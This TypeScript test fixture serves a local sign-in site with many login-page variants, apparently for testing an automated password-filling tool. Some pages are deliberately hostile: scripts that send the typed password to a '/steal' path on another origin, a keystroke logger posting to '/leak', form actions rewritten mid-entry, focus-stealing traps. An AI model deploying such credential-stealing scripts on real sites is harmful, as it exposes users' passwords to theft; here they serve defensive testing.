import { createHmac } from 'node:crypto';
import type { ServerResponse } from 'node:http';
import { type Answer, openSite, type SeenRequest, type Site } from './site.ts';

export const USER = 'ana.sousa@example.com';
export const PASSWORD = 'Mar3s-Vivas!9&x';
/** Base32 of `12345678901234567890`. */
export const TOTP = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ';

const page = (title: string, body: string) =>
  `<!doctype html><meta charset=utf-8><title>${title}</title><link rel=icon href="data:,"><body>${body}`;

const FIELDS = `<label>E-mail <input name=user type=email autocomplete=username></label>
<label>Password <input name=pass type=password></label>`;
const BUTTON = '<button>Sign in</button>';
const HOME = page('Home', '<h1>Welcome</h1><a href="/out">Sign out</a>');

/** A form that sends to a path of its own. */
const form = (action: string, inside: string) => `<form method=post action="${action}">${inside}</form>`;

/** Single pages by what is hard about them; each is at `/<name>`. */
const PAGES: Readonly<Record<string, string>> = {
  plain: form('/in', FIELDS + BUTTON),
  'name-first': form('/name', '<label>E-mail <input name=user type=email></label><button>Continue</button>'),
  'appears-later': `<form id=f><label>Usuário <input name=user></label><div id=more></div><button>Continuar</button></form>
<script>f.onsubmit = (event) => { event.preventDefault();
  if (!f.pass) setTimeout(() => { more.innerHTML = '<label>Senha <input name=pass type=password></label>'; }, 150);
  else fetch('/api', { method: 'POST', body: new URLSearchParams(new FormData(f)) }).then((r) => r.ok && location.assign('/home')); };</script>`,
  formless: `<main id=m><div><label>Email <input id=u></label></div><div><label>Password <input id=p type=password></label></div><div role=button tabindex=0 id=b>Log in</div></main>
<script>b.onclick = () => fetch('/api', { method: 'POST', body: new URLSearchParams({ user: u.value, pass: p.value }) }).then((r) => {
  m.innerHTML = r.ok ? '<h1>Dashboard</h1><button>Log out</button>' : m.innerHTML + '<p class=error>Wrong user or password</p>'; });</script>`,
  shadow: `<sign-in></sign-in><script>customElements.define('sign-in', class extends HTMLElement { constructor() { super();
  this.attachShadow({ mode: 'open' }).innerHTML = '${form('/in', FIELDS.replaceAll('\n', '') + BUTTON)}'; } });</script>`,
  boxes: form(
    '/code',
    `<h1>Enter your code</h1><div class=boxes>${'<input name=d maxlength=1 inputmode=numeric size=1>'.repeat(6)}</div><button>Verify</button>`,
  ),
  captcha: form(
    '/in',
    `${FIELDS}<label>Type the letters of the captcha <input name=captcha></label>${BUTTON}`,
  ),
  'elsewhere-action': form('__ELSE__/in', FIELDS + BUTTON),
  'elsewhere-formaction': form('/in', `${FIELDS}<button formaction="__ELSE__/in">Sign in</button>`),
  'elsewhere-base': `<base href="__ELSE__/">${form('in', FIELDS + BUTTON)}`,
  'elsewhere-after-fill': `${form('/in', FIELDS + BUTTON)}<script>document.querySelector('[name=pass]').addEventListener('input', () => { document.forms[0].action = '__ELSE__/in'; });</script>`,
  'elsewhere-on-click': `${form('/in', FIELDS + BUTTON)}<script>document.querySelector('button').addEventListener('click', () => { document.forms[0].action = '__ELSE__/in'; });</script>`,
  'elsewhere-on-submit': `${form('/in', FIELDS + BUTTON)}<script>document.forms[0].addEventListener('submit', () => { document.forms[0].action = '__ELSE__/in'; });</script>`,
  'elsewhere-by-script': `${form('/in', FIELDS + BUTTON)}<script>document.forms[0].onsubmit = (event) => { event.preventDefault();
  const f = document.forms[0]; fetch('__ELSE__/steal?' + f.pass.value, { mode: 'no-cors' }).catch(() => {}); new Image().src = '__ELSE__/steal?' + f.pass.value; f.submit(); };</script>`,
  'type-text': form('/in', FIELDS.replace('type=password', 'type=text') + BUTTON),
  'becomes-text': `${form('/in', FIELDS + BUTTON)}<script>document.querySelector('[name=pass]').addEventListener('focus', (event) => { event.target.type = 'text'; });</script>`,
  small: form('/in', `${FIELDS}${BUTTON}<style>[name=pass]{width:4px;height:4px;padding:0;border:0}</style>`),
  covered: `${form('/in', FIELDS + BUTTON)}<div style="position:fixed;inset:0;background:#fff">Our new cookie policy <button>OK</button></div>`,
  'moves-focus': `${form('/in', `${FIELDS}${BUTTON}`)}<input id=trap><script>document.querySelector('[name=pass]').addEventListener('focus', () => trap.focus());</script>`,
  register: form(
    '/in',
    `<input name=user type=email><input name=pass type=password autocomplete=new-password><input name=pass2 type=password autocomplete=new-password><button>Create account</button>`,
  ),
  framed: '<h1>Portal</h1><iframe src="/plain" width=500 height=300 title="Sign in"></iframe>',
};

export interface SignInSite extends Site {
  /** What came to the site's other name: `localhost`. */
  readonly elsewhere: readonly SeenRequest[];
}

/** A site with a sign-in page of every kind. Who signs in there is known by the requests that came. */
export async function openSignInSite(): Promise<SignInSite> {
  let site: Site | undefined;
  const answers: Record<string, string | Answer> = {
    '/race': (request, response) => {
      const given = new URLSearchParams(request.path.split('?')[1]);
      html(response, racingPage(given.get('trick') ?? 'text', Number(given.get('after'))));
    },
  };
  for (const [name, body] of Object.entries(PAGES)) {
    answers[`/${name}`] = (_, response) => {
      html(response, page('Sign in', body.replaceAll('__ELSE__', site?.originFor('localhost') ?? '')));
    };
  }
  Object.assign(answers, {
    '/home': HOME,
    '/in': (request: SeenRequest, response: ServerResponse) => {
      if (isRight(request)) return redirect(response, '/home');
      html(
        response,
        page('Sign in', `<p role=alert>Wrong e-mail or password.</p>${PAGES['plain'] ?? ''}`),
        401,
      );
    },
    '/name': page(
      'Sign in',
      form(
        '/in',
        '<input type=hidden name=user value="ana.sousa@example.com"><label>Password <input name=pass type=password></label><button>Sign in</button>',
      ),
    ),
    '/api': (request: SeenRequest, response: ServerResponse) =>
      html(response, 'ok', isRight(request) ? 200 : 403),
    '/code': (request: SeenRequest, response: ServerResponse) => {
      const digits = new URLSearchParams(request.body).getAll('d').join('');
      redirect(response, validCodes().includes(digits) ? '/home' : '/boxes');
    },
    '/second-factor': page(
      'Verify',
      '<h1>Two-step verification</h1><p>Approve the sign-in on your phone.</p>',
    ),
    '/limited': (_: SeenRequest, response: ServerResponse) => html(response, HOME, 429),
    '/silent': () => {},
    '/mirror': page('Sign in', MIRROR),
    '/trap': page('Trap', `<input id=trap autofocus>${WATCH}`),
    '/leak': 'noted',
  });
  for (const [name, target] of [
    ['to-limited', '/limited'],
    ['to-silent', '/silent'],
    ['to-second-factor', '/second-factor'],
    ['to-boxes', '/boxes'],
  ] as const)
    answers[`/${name}`] = page('Sign in', form(target, FIELDS + BUTTON));
  const opened = await openSite(answers);
  site = opened;
  return {
    ...opened,
    get elsewhere() {
      return opened.requests.filter(({ headers }) => headers.host?.startsWith('localhost') === true);
    },
  };
}

/** Tells of each character that comes anywhere but into the password field of the form. */
const WATCH = `<script>
  addEventListener('input', ({ target }) => { if (target.value !== '' && !(target.name === 'pass' && target.type === 'password') && target.name !== 'user') fetch('/leak?' + encodeURIComponent(target.value)); }, true);
  addEventListener('keydown', ({ key }) => { if (key.length === 1) fetch('/leak?key=' + key); }, true);
</script>`;

/** A sign-in page that does something else with the focus or the field, so many milliseconds after its name was typed. */
export function racingPage(trick: string, afterMs: number): string {
  return page(
    'Sign in',
    `${form('/in', FIELDS + BUTTON)}<input id=trap>${WATCH}<script>
    const pass = document.querySelector('[name=pass]'); const user = document.querySelector('[name=user]');
    const tricks = {
      navigate: () => location.assign('/trap'),
      steal: () => { const again = () => { trap.focus(); if (performance.now() < end) setTimeout(again); }; const end = performance.now() + 60; again(); },
      text: () => { pass.type = 'text'; },
      swap: () => { const other = document.createElement('input'); pass.replaceWith(other); other.focus(); },
      rewrite: () => { document.open(); document.write('<input id=trap autofocus>' + ${JSON.stringify(WATCH).replaceAll('</', '<\\/')}); document.close(); trap.focus(); },
      cover: () => { document.body.insertAdjacentHTML('beforeend', '<div style="position:fixed;inset:0;background:#fff"></div>'); },
      action: () => { document.forms[0].action = location.origin.replace('127.0.0.1', 'localhost') + '/in'; },
      frame: () => { const frame = document.createElement('iframe'); frame.src = '/trap'; document.body.prepend(frame); },
    };
    for (const type of ['focus', 'input']) user.addEventListener(type, () => { const until = performance.now() + ${afterMs}; const go = () => (performance.now() < until ? setTimeout(go) : tricks.${trick}()); go(); }, { once: true });
  </script>`,
  );
}

/** Shows what is typed in every way that a page has. */
const MIRROR = `<form id=f method=post action="/in"><label>E-mail <input name=user type=email></label>
<label>Password <input name=pass type=password></label><button type=button id=show>Show password</button><button>Sign in</button></form>
<p id=echo></p><p id=spaced></p><p id=upper></p><p id=back></p><p id=parts></p><p id=b64></p><p id=hex></p><input id=copy><textarea id=area></textarea>
<p id=later></p><a id=link href="#">link</a>
<script>
  const hex = (text) => [...new TextEncoder().encode(text)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  show.onclick = () => { f.pass.type = 'text'; };
  f.onsubmit = (event) => { event.preventDefault(); };
  f.pass.oninput = () => { const v = f.pass.value;
    echo.textContent = 'You typed ' + v; spaced.textContent = v.match(/.{1,4}/g)?.join(' ') ?? ''; upper.textContent = v.toUpperCase();
    back.textContent = [...v].reverse().join(''); parts.innerHTML = ''; for (const part of v.match(/.{1,3}/g) ?? []) { const b = document.createElement('div'); b.textContent = part; parts.append(b); }
    b64.textContent = btoa('x' + v); hex_(v); copy.value = v; area.value = 'note: ' + v; document.title = v; link.href = '/p?q=' + encodeURIComponent(v); link.title = v;
    f.setAttribute('aria-label', v); localStorage.setItem('draft', v); sessionStorage.setItem(v, '1'); document.cookie = 'draft=' + encodeURIComponent(v); history.replaceState(null, '', '?draft=' + encodeURIComponent(v));
    console.log('typed', v); console.error(new Error(v));
    setTimeout(() => { later.innerHTML = '<b>' + v.slice(0, 5) + '</b><i>' + v.slice(5) + '</i>'; }, 300);
    fetch('/api?draft=' + encodeURIComponent(v)); };
  function hex_(v) { document.getElementById('hex').textContent = hex(v); }
</script>`;

function html(response: ServerResponse, body: string, status = 200): void {
  response.writeHead(status, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
  response.end(body);
}

function redirect(response: ServerResponse, location: string): void {
  response.writeHead(303, { location });
  response.end();
}

function isRight({ body }: SeenRequest): boolean {
  const sent = new URLSearchParams(body);
  return sent.get('user') === USER && sent.get('pass') === PASSWORD;
}

function validCodes(): readonly string[] {
  const step = Math.floor(Date.now() / 30_000);
  return [step, step - 1].map((each) => {
    const counter = Buffer.alloc(8);
    counter.writeBigUInt64BE(BigInt(each));
    const mac = createHmac('sha1', '12345678901234567890').update(counter).digest();
    const at = (mac.at(-1) ?? 0) & 15;
    return String((mac.readUInt32BE(at) & 0x7fffffff) % 1_000_000).padStart(6, '0');
  });
}
